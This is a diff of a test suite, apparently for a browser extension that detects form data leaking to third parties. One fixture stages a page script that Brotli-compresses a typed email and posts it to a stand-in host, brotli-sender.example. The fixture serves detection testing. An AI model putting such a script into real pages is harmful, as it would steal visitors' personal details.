@@ -6,6 +6,7 @@ import { brotliCompressSync, gzipSync } from "node:zlib";
 import { fillIn, pressSend, stageIntake } from "../clinic/intake.mjs";
 import { visitor } from "../clinic/persona.mjs";
 import { address, hosts } from "../clinic/site.mjs";
+import { snippets } from "../clinic/snippets.mjs";
 import { EMAIL, WORD, base64, check, freshPath, isKind, onChange, onSend, post, proofs, proven, sha256 } from "./lib/senders.mjs";
 import { stage } from "./lib/stage.mjs";
 import { Watched } from "./lib/watched.mjs";
@@ -80,7 +81,9 @@ test("brotli, which only the second module takes apart", async () => {
   const host = "brotli-sender.example";
   await check(it, watched, {
     name: "brotli", host, steps: /brotli/, arrived: (r) => r.method === "POST" && r.body.length > 0,
-    script: (say) => onChange(`const packed = await (await fetch("/p/pack", { method: "POST", body: JSON.stringify({ e: ${say} }) })).arrayBuffer();
+    // Brotli leaves a few dozen bytes as they are.
+    script: (say) => onChange(`const event = { event: "form_changed", page: "intake", properties: { fields: ["email", "phone", "reason"], email: ${say} } };
+      const packed = await (await fetch("/p/pack", { method: "POST", body: JSON.stringify(event) })).arrayBuffer();
       fetch("https://${host}/in", { method: "POST", headers: { "content-type": "application/json", "content-encoding": "br" }, body: packed })`),
   });
 });
@@ -127,8 +130,12 @@ test("typed, the worker ended, then sent: what was typed is remembered", async (
   await fillIn(page);
   await watched.untilView((v) => v.known.some((k) => /e-mail/i.test(k.what)), "the typed value to be known");
   assert.deepEqual(proven(await watched.view(), host), [], "nothing left yet");
-  await watched.asker.waitForFunction(async (value) => JSON.stringify(await chrome.storage.session.get(null)).includes(value),
-    { polling: 50 }, visitor.email);
+  const kept = async (values) => {
+    const text = JSON.stringify(await chrome.storage.session.get(null));
+    return values.every((value) => text.includes(value));
+  };
+  await page.focus("#send");
+  await watched.asker.waitForFunction(kept, { polling: 50 }, [visitor.email, visitor.reason]);
   await it.browser.killWorker();
   await pressSend(page);
   const view = await watched.untilView((v) => proven(v, host).length >= 2, "both, after the worker's end");
@@ -166,4 +173,35 @@ test("bad input from a page: a bomb, deep JSON, a million parameters; the next l
       await quiet("x".repeat(50 << 20));
       await ${post(host, `JSON.stringify({ e: ${say} })`)}`),
   });
+});
+
+test("a form for the site itself, ordinary tags beside it: nothing of what is typed is said to leave", async () => {
+  const { sink } = it;
+  const { page } = watched;
+  const chat = "chat.helpdesk.example";
+  sink.staged.set(`${chat}/w.js`, { type: "text/javascript", body: `const line = new WebSocket("wss://${chat}/live");
+    line.onopen = () => setInterval(() => line.send(JSON.stringify({ type: "ping", page: "Bayside Clinic", typing: false })), 200);` });
+  sink.staged.set("fonts.googleapis.com/css2", { type: "text/css", body: "" });
+  const tags = `<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter:wght@400;600">`
+    + snippets.ga4({ consent: "granted" }) + snippets.matomo({}) + `<script src="https://${chat}/w.js"></script>`;
+  const own = `<script>document.querySelector("#intake").addEventListener("change", ({ target }) => {
+      gtag("event", "form_start", { form_id: "intake", form_name: "", first_field_id: target.id, first_field_type: target.type, form_length: 3 });
+      fetch("/p/save", { method: "POST", body: new FormData(target.form) });
+      const files = new FormData(target.form);
+      files.append("photo", new Blob([target.value]), "photo.txt");
+      fetch("/p/save", { method: "POST", body: files });
+    });</script>`;
+  const mark = sink.requests.length;
+  await page.goto(stageIntake(sink, freshPath(), tags + own), { waitUntil: "load" });
+  // Words that stand in tags' requests as well.
+  await fillIn(page, { reason: "intake visit, page view" });
+  const typed = sink.requests.length;
+  await sink.until((r) => r.host === chat && r.method === "MESSAGE", { mark: typed, what: "the chat's own talk" });
+  await pressSend(page);
+  await sink.until((r) => r.path === "/p/sent" && r.body.includes("intake"), { mark, what: "the form, at the site itself" });
+  await sink.until((r) => r.path === "/g/collect", { mark, what: "the page view" });
+  const view = await watched.untilView((v) => v.known.length >= 3 && v.recipients.some((r) => r.hosts.includes(chat)), "the visit to be read");
+  const said = view.findings.filter((f) => f.kind === "form-value-leak" || f.evidence.some((e) => e.known && !/^page/.test(e.known.value)));
+  assert.deepEqual(said.map((f) => `${f.kind} ${f.recipient?.host}: ${f.said}`), []);
+  assert.deepEqual(view.known.filter((k) => k.left.length && !/page/i.test(k.what)).map((k) => k.what), []);
 });
